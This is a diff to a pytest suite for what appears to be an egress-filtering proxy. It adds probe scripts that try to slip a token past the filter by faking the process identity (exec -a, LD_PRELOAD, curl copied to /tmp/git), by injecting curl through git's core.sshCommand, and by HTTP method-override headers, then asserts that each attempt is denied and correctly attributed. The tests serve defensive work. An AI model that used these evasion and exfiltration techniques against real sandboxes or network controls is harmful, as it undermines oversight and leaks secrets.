@@ -7,8 +7,10 @@
 
 from __future__ import annotations
 
+import hashlib
 import ipaddress
 import json
+from pathlib import Path
 
 import pytest
 
@@ -181,6 +183,9 @@ for line in {ODD}:
 for method in ("PUT", "POST", "DELETE", "PATCH", "get"):
     for via in ((), ("-x", PX)):
         say(method, curl(*via, "-X", method, "-d", TOK, f"http://four.test/ok/{TOK}")["out"][-6:])
+for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "x_method_override"):
+    for method in ("DELETE", "get, PUT", "nonesuch"):
+        say(method, curl("-H", f"{name}: {method}", f"http://four.test/ok/{TOK}")["out"][-6:])
 """,
     "P19": """
 for path in (f"/proxy?url=http://{NO}/{TOK}",
@@ -208,6 +213,8 @@ with socket.create_connection((NO, 5432), 1) as waiting:
     "P31": """
 say(shell(f"GITHUB_ACTION_REPOSITORY=actions/checkout curl -skm4 https://{NO}/$TOK"))
 say(shell(f"(exec -a /usr/bin/git curl -skm4 http://{NO}/$TOK)"))
+say(shell(f"LD_PRELOAD=/usr/bin/git.so curl -skm4 http://{NO}/$TOK/preload"))
+say(shell(f"cp -L /usr/bin/curl /tmp/git && /tmp/git -skm4 http://{NO}/$TOK/copy"))
 say(shell(f"timeout 8 git -c core.sshCommand='curl -sm4 http://{NO}/'$TOK' #' ls-remote ssh://{OK}/x"))
 """,
 }
@@ -392,6 +399,13 @@ def test_P22_methods_hold(ran: Ran, leaks: Ran) -> None:
     for method in ("PUT", "POST", "DELETE", "PATCH"):
         denied = ran.denied(method=method, path=f"/ok/{case.token}")
         assert {flow["via"] for flow in denied} == {"direct", "absolute-form"}
+    said = {
+        flow["fault"] for flow in ran.denied(method="GET", path=f"/ok/{case.token}", rule="fault")
+    }
+    assert said == {
+        f"a header says that the method is {method}, which is not allowed as GET is"
+        for method in ("DELETE", "PUT", "NONESUCH")
+    }
 
 
 def test_P24_size(ran: Ran, leaks: Ran) -> None:
@@ -415,7 +429,18 @@ def test_P29_a_client_that_knows_nothing_of_proxies(ran: Ran, leaks: Ran) -> Non
 
 def test_P31_what_a_process_says_of_itself(ran: Ran, leaks: Ran) -> None:
     check(ran, leaks, "P31")
-    assert ran.denied(synthetic="denied.test", sni="denied.test")
+    curl = Path("/usr/bin/curl").resolve()
+    real = (str(curl), hashlib.sha256(curl.read_bytes()).hexdigest())
+    token = ran["P31"].token
+    for path, exe in (
+        *((f"/{token}", str(curl)), (f"/{token}/preload", str(curl))),
+        (f"/{token}/copy", "/tmp/git"),
+    ):
+        said = [flow["process"] for flow in ran.denied(synthetic="denied.test", path=path)]
+        assert said, path
+        for one in said:
+            labels = {(holder["exe"], holder["exe_sha256"]) for holder in one["holders"]}
+            assert labels == {(exe, real[1])}, path
 
 
 def test_every_allowed_flow_has_an_end_on_record(ran: Ran) -> None:
